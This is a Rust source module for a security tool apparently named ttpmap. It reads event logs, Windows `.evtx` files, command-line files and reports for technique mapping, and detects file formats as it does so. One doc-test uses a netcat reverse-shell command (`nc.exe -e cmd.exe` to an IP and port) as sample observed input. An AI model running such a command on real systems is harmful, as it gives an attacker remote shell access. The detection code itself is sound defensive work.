//! Readers of observed data: JSON lines, JSON arrays, evtx JSON, `.evtx` files, command-line files, report text.
//!
//! Every reader streams: it holds one record at a time (one line, one
//! array element, one `.evtx` chunk), so memory does not grow with the
//! number of records. A record that cannot be read is a [`RecordError`]
//! naming its position (file and line, element, document or record
//! number) and is skipped; only a file that cannot be opened at all is a
//! hard [`ReadError`]. A [`ReadSummary`] counts what was read and skipped.
//!
//! What to read is the caller's choice ([`InputKind`]); the format of an
//! event file is detected ([`detect`], [`EventFormat`]):
//!
//! - JSON lines (`.jsonl`, `.ndjson`, or any file whose first line is a
//!   whole JSON object): one object per line, blank lines skipped;
//! - a JSON array of objects, or JSON objects one after another (a single
//!   object is a file of one event; `evtx_dump -o json` output with its
//!   `Record N` banners is read as is);
//! - Windows event logs (`.evtx`, or a file starting with `ElfFile`).
//!
//! A JSON document in the shape of `evtx_dump -o json` or python-evtx is
//! normalised to flat Windows fields (`EventID`, `Channel`,
//! `Provider_Name`, … and every `EventData` field by its own name, see
//! [`event_from_document`]); any other object is flattened with dots
//! (`process.command_line`). Command-line files give [`CommandLine`]s,
//! reports one [`Observation::Text`] each (HTML converted to text).
//!
//! # Example
//!
//! ```
//! use ttpmap_mapper::read::{JsonLinesReader, ReadSummary};
//!
//! let input = concat!(
//!     r#"{"Event": {"System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"},"#,
//!     r#" "EventData": {"Image": "C:\\Windows\\System32\\cmd.exe"}}}"#,
//!     "\n{not json\n",
//!     r#"{"process": {"command_line": "whoami"}}"#,
//! );
//! let mut summary = ReadSummary::default();
//! let mut events = Vec::new();
//! for item in JsonLinesReader::new(input.as_bytes()) {
//!     summary.count(&item);
//!     if let Ok(event) = item {
//!         events.push(event);
//!     }
//! }
//! assert_eq!(events[0].get("EventID"), Some(&serde_json::json!(1)));
//! assert_eq!(events[0].text("Image").as_deref(), Some(r"C:\Windows\System32\cmd.exe"));
//! assert_eq!(events[1].text("process.command_line").as_deref(), Some("whoami"));
//! assert_eq!((summary.records, summary.events, summary.skipped), (3, 2, 1));
//! assert!(summary.errors[0].to_string().starts_with("line 2: "));
//! ```

use std::io::{BufRead, Read};
use std::path::{Path, PathBuf};
use std::sync::Arc;

mod cmdline;
mod error;
mod evtx_file;
mod input;
mod json;
mod observation;
mod text;
mod windows;

pub use cmdline::CommandLineReader;
pub use error::{
    Position, ReadError, ReadSummary, RecordError, RecordErrorKind, Unit, KEPT_ERRORS,
};
pub use evtx_file::EvtxReader;
pub use json::{JsonLinesReader, JsonReader};
pub use observation::{guess_image, CommandLine, Observation};
pub use text::{
    decode_entities, html_to_text, markdown_to_text, read_text, TextFormat, MAX_TEXT_BYTES,
};
pub use windows::{event_from_document, is_windows_event};

use crate::event::Event;
use input::{open_input, Input, Lines};

/// The largest record read (a JSON line, an array element, a command
/// line), in bytes: larger ones are skipped as [`RecordErrorKind::TooLarge`].
pub const MAX_RECORD_BYTES: usize = 16 * 1024 * 1024;

/// What a file holds, as the caller says.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum InputKind {
    /// Events: JSON lines, JSON arrays or objects, `.evtx` (format detected).
    Events,
    /// Command lines, one per line.
    CommandLines,
    /// A report: plain text, Markdown or HTML, read as one text.
    Text,
}

/// The format of an event file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum EventFormat {
    /// One JSON object per line.
    JsonLines,
    /// A JSON array of objects.
    JsonArray,
    /// JSON objects one after another (one object, pretty-printed or not,
    /// or several).
    JsonDocuments,
    /// A Windows event log.
    Evtx,
}

const EVTX_MAGIC: &[u8] = b"ElfFile\0";

/// The format of an event file: by extension (`.jsonl`, `.ndjson`,
/// `.jsonlines`: JSON lines; `.evtx`: Windows event log), else by content:
/// the `ElfFile` header of an event log; a first non-space byte `[` (an
/// array) or `{` (JSON lines when the first line is a whole object, else
/// documents), or the `Record N` banner of `evtx_dump -o json` (documents). An empty file is JSON lines (of no events). Fails when the
/// file cannot be read or starts with anything else.
pub fn detect(path: impl AsRef<Path>) -> Result<EventFormat, ReadError> {
    let path = path.as_ref();
    let extension = path
        .extension()
        .map(|e| e.to_string_lossy().to_ascii_lowercase());
    match extension.as_deref() {
        Some("jsonl" | "ndjson" | "jsonlines") => return Ok(EventFormat::JsonLines),
        Some("evtx") => return Ok(EventFormat::Evtx),
        _ => {}
    }
    let mut head = Vec::with_capacity(EVTX_MAGIC.len());
    std::fs::File::open(path)
        .and_then(|file| file.take(EVTX_MAGIC.len() as u64).read_to_end(&mut head))
        .map_err(|e| ReadError::io(path, e))?;
    if head == EVTX_MAGIC {
        return Ok(EventFormat::Evtx);
    }
    let mut input = open_input(path)?;
    let first = loop {
        let available = input.fill_buf().map_err(|e| ReadError::io(path, e))?;
        if available.is_empty() {
            return Ok(EventFormat::JsonLines);
        }
        let spaces = available
            .iter()
            .take_while(|b| b.is_ascii_whitespace())
            .count();
        if let Some(&b) = available.get(spaces) {
            break b;
        }
        input.consume(spaces);
    };
    match first {
        b'[' => Ok(EventFormat::JsonArray),
        b'R' => {
            // `evtx_dump -o json`: a `Record N` banner before each document.
            let mut lines = Lines::new(input, 256);
            match lines.next_line() {
                Some(Ok((_, input::Line::Bytes(line)))) if json::is_banner(line) => {
                    Ok(EventFormat::JsonDocuments)
                }
                _ => Err(ReadError::UnknownFormat {
                    path: path.to_path_buf(),
                }),
            }
        }
        b'{' => {
            let mut lines = Lines::new(input, MAX_RECORD_BYTES);
            let whole = match lines.next_line() {
                Some(Ok((_, input::Line::Bytes(line)))) => {
                    serde_json::from_slice::<serde_json::Value>(line).is_ok_and(|v| v.is_object())
                }
                _ => false,
            };
            Ok(if whole {
                EventFormat::JsonLines
            } else {
                EventFormat::JsonDocuments
            })
        }
        _ => Err(ReadError::UnknownFormat {
            path: path.to_path_buf(),
        }),
    }
}

enum EventInner {
    JsonLines(JsonLinesReader<Input>),
    Json(JsonReader<Input>),
    Evtx(EvtxReader),
}

/// Events of a file in any [`EventFormat`], counted in a [`ReadSummary`].
pub struct EventReader {
    inner: EventInner,
    format: EventFormat,
    summary: ReadSummary,
}

impl EventReader {
    /// Open an event file in the format [`detect`] finds.
    pub fn open(path: impl AsRef<Path>) -> Result<EventReader, ReadError> {
        let path = path.as_ref();
        EventReader::open_as(path, detect(path)?)
    }

    /// Open an event file in a given format.
    pub fn open_as(path: impl AsRef<Path>, format: EventFormat) -> Result<EventReader, ReadError> {
        let path = path.as_ref();
        let file = Arc::new(path.to_path_buf());
        let inner = match format {
            EventFormat::JsonLines => {
                EventInner::JsonLines(JsonLinesReader::new(open_input(path)?).with_file(file))
            }
            EventFormat::JsonArray | EventFormat::JsonDocuments => {
                EventInner::Json(JsonReader::new(open_input(path)?).with_file(file))
            }
            EventFormat::Evtx => EventInner::Evtx(EvtxReader::open(path)?),
        };
        Ok(EventReader {
            inner,
            format,
            summary: ReadSummary::default(),
        })
    }

    /// Read events from a stream that cannot seek (standard input, a
    /// pipe), named `name` in positions and errors. The format is told by
    /// content as [`detect`] does: JSON lines, a JSON array, or JSON
    /// documents (`evtx_dump` output included). A Windows event log needs
    /// seeking: it is a [`ReadError::Evtx`] asking for its path.
    ///
    /// ```
    /// use ttpmap_mapper::read::{EventFormat, EventReader};
    ///
    /// let input = "\n{\"Image\": \"C:\\\\x.exe\"}\n{bad\n";
    /// let mut reader = EventReader::from_stream(std::io::Cursor::new(input), "<stdin>")?;
    /// assert_eq!(reader.format(), EventFormat::JsonLines);
    /// let event = reader.next().unwrap().unwrap();
    /// assert_eq!(event.text("Image").as_deref(), Some(r"C:\x.exe"));
    /// assert_eq!(event.origin.unwrap().to_string(), "<stdin>#2");
    /// let error = reader.next().unwrap().unwrap_err();
    /// assert!(error.to_string().starts_with("<stdin>: line 3: "), "{error}");
    /// # Ok::<(), ttpmap_mapper::read::ReadError>(())
    /// ```
    pub fn from_stream(
        stream: impl Read + Send + 'static,
        name: impl AsRef<Path>,
    ) -> Result<EventReader, ReadError> {
        let name = name.as_ref();
        let mut input = input::decode(Box::new(stream), name)?;
        // Blank lines, then the first line with something on it: read, and
        // put back in front of the rest (line numbers stay right).
        let mut head = Vec::new();
        let first = loop {
            let start = head.len();
            let limit = (MAX_RECORD_BYTES + 1) as u64;
            (&mut input)
                .take(limit)
                .read_until(b'\n', &mut head)
                .map_err(|e| ReadError::io(name, e))?;
            let line = head.get(start..).unwrap_or_default();
            if line.is_empty() {
                break None;
            }
            if let Some(&b) = line.iter().find(|b| !b.is_ascii_whitespace()) {
                break Some((b, start));
            }
        };
        let format = match first {
            None => EventFormat::JsonLines,
            Some((_, start)) if head.get(start..).is_some_and(|l| l.starts_with(EVTX_MAGIC)) => {
                return Err(ReadError::Evtx {
                    path: name.to_path_buf(),
                    message: "an event log cannot be read from a stream; give its path".into(),
                });
            }
            Some((b'[', _)) => EventFormat::JsonArray,
            Some((b'R', start)) if head.get(start..).is_some_and(json::is_banner) => {
                EventFormat::JsonDocuments
            }
            Some((b'{', start)) => {
                let line = head.get(start..).unwrap_or_default();
                if serde_json::from_slice::<serde_json::Value>(line).is_ok_and(|v| v.is_object()) {
                    EventFormat::JsonLines
                } else {
                    EventFormat::JsonDocuments
                }
            }
            Some(_) => {
                return Err(ReadError::UnknownFormat {
                    path: name.to_path_buf(),
                })
            }
        };
        let rest: Box<dyn Read + Send> = Box::new(std::io::Cursor::new(head).chain(input));
        let input = std::io::BufReader::with_capacity(64 * 1024, rest);
        let file = Arc::new(name.to_path_buf());
        let inner = match format {
            EventFormat::JsonLines => {
                EventInner::JsonLines(JsonLinesReader::new(input).with_file(file))
            }
            _ => EventInner::Json(JsonReader::new(input).with_file(file)),
        };
        Ok(EventReader {
            inner,
            format,
            summary: ReadSummary::default(),
        })
    }

    /// The format read.
    pub fn format(&self) -> EventFormat {
        self.format
    }

    /// What was read so far.
    pub fn summary(&self) -> &ReadSummary {
        &self.summary
    }

    /// What was read, once done.
    pub fn into_summary(self) -> ReadSummary {
        self.summary
    }
}

impl Iterator for EventReader {
    type Item = Result<Event, RecordError>;

    fn next(&mut self) -> Option<Self::Item> {
        let item = match &mut self.inner {
            EventInner::JsonLines(reader) => reader.next(),
            EventInner::Json(reader) => reader.next(),
            EventInner::Evtx(reader) => reader.next(),
        }?;
        self.summary.count(&item);
        Some(item)
    }
}

enum Inner {
    Events(EventReader),
    CommandLines(CommandLineReader<Input>),
    Text(Option<Result<Observation, RecordError>>),
}

/// Observations of a file of any [`InputKind`], counted in a [`ReadSummary`].
///
/// ```
/// # fn main() -> Result<(), Box<dyn std::error::Error>> {
/// use ttpmap_mapper::read::{InputKind, Observation, open};
///
/// let path = std::env::temp_dir().join(format!("ttpmap-read-doc-{}.txt", std::process::id()));
/// std::fs::write(&path, "# seen on ws1\n\"C:\\Tools\\nc.exe\" -e cmd.exe 10.0.0.1 4444\n")?;
/// let mut reader = open(&path, InputKind::CommandLines)?;
/// let Some(Ok(Observation::CommandLine(line))) = reader.next() else { panic!() };
/// let event = line.to_event();
/// assert_eq!(event.text("Image").as_deref(), Some(r"C:\Tools\nc.exe"));
/// assert_eq!(event.origin.map(|o| o.record), Some(2));
/// assert!(reader.next().is_none());
/// assert_eq!(reader.summary().events, 1);
/// std::fs::remove_file(&path)?;
/// # Ok(())
/// # }
/// ```
pub struct Reader {
    inner: Inner,
    summary: ReadSummary,
}

/// Open a file of `kind` for reading. Fails only when the file cannot be
/// read at all (missing, a folder, no permission, an `.evtx` header that is
/// not an event log's, an event file of unknown format); everything after
/// that is a [`RecordError`] per record.
pub fn open(path: impl AsRef<Path>, kind: InputKind) -> Result<Reader, ReadError> {
    let path = path.as_ref();
    let inner = match kind {
        InputKind::Events => Inner::Events(EventReader::open(path)?),
        InputKind::CommandLines => Inner::CommandLines(
            CommandLineReader::new(open_input(path)?).with_file(Arc::new(PathBuf::from(path))),
        ),
        InputKind::Text => Inner::Text(Some(read_text(path)?)),
    };
    Ok(Reader {
        inner,
        summary: ReadSummary::default(),
    })
}

impl Reader {
    /// What was read so far.
    pub fn summary(&self) -> &ReadSummary {
        &self.summary
    }

    /// What was read, once done.
    pub fn into_summary(self) -> ReadSummary {
        self.summary
    }
}

impl Iterator for Reader {
    type Item = Result<Observation, RecordError>;

    fn next(&mut self) -> Option<Self::Item> {
        let item = match &mut self.inner {
            Inner::Events(reader) => reader.next()?.map(Observation::Event),
            Inner::CommandLines(reader) => reader.next()?.map(Observation::CommandLine),
            Inner::Text(text) => text.take()?,
        };
        self.summary.count(&item);
        Some(item)
    }
}
